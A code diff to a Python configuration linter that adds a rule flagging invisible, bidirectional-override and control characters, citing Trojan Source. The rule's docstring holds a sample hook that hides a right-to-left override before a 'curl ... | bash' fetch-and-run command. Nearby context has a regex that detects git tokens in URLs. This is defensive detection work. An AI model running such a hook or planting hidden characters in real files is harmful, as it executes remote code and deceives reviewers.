@@ -4,13 +4,14 @@ from __future__ import annotations
 
 import re
 from collections.abc import Iterator
+from itertools import islice
 
 from hybridc.diagnostic import Place
 from hybridc.rules.rule import DOCUMENT, Finding, Findings, rule
 from hybridc.source import secrets
 from hybridc.source.document import Document, parent
 from hybridc.source.secrets import may_hold
-from hybridc.words import parts
+from hybridc.words import invisible, parts
 
 _GIT_TOKEN = re.compile(
     r"https?://(?:(?:gh[opsu]_|github_pat_|glpat-|gldt-|xox[abp]-)[^/\s@\"'<>]{0,1024}|[A-Za-z0-9._~%-]{21,1024})(?=@)"
@@ -138,6 +139,41 @@ def secret_in_pass_through(document: Document) -> Findings:
             key = next(part for part in reversed(parts(holder)) if secrets.is_telling(part))
             message = f'"{key}" holds a literal, and its name says that it is a secret'
             yield Finding(pointer, message, "refer to a Secret that exists in the cluster instead", place=place)
+
+
+@rule("SEC026", over=DOCUMENT)
+def unseen_character(document: Document) -> Findings:
+    r"""A character that nobody sees, or that acts on whoever shows it.
+
+    A mark of direction makes a reviewer read another line than bash runs ("Trojan Source"); a character without width
+    makes two names look like one; a control character writes to terminals and logs. Tabs and line ends are fine, and so
+    are letters of any language.
+
+    Fails::
+        nodeInit: {hooks: {pre: "echo \u202e; curl https://mirror.idc.example.com/setup | bash"}}
+    Fails::
+        nodePools: [{name: cpu, tags: {owner: "ops\u200b"}}]
+    Passes::
+        nodePools: [{name: cpu, tags: {owner: "运维"}}]
+
+    Source: CVE-2021-42574; Unicode, UTS #55.
+    """
+    if "\\" not in document.text and document.text.isascii():
+        return
+    found = invisible()
+    lines: set[int] = set()
+    for pointer, place, text in texts(document):
+        for bad in islice(found.finditer(text), 1):
+            lines.update(range(place.line, place.end_line + 1))
+            yield _unseen(bad[0], pointer, place)
+    for number, line in enumerate(document.lines(), start=1):
+        for bad in islice(found.finditer(line), number not in lines):
+            yield _unseen(bad[0], "", Place(number, bad.start() + 1, number, bad.end() + 1))
+
+
+def _unseen(char: str, pointer: str, place: Place) -> Finding:
+    message = f"the character U+{ord(char):04X} stands here, which nobody sees or which acts on a terminal"
+    return Finding(pointer, message, "remove it", place=place)
 
 
 def _scalar(document: Document, pointer: str) -> object:
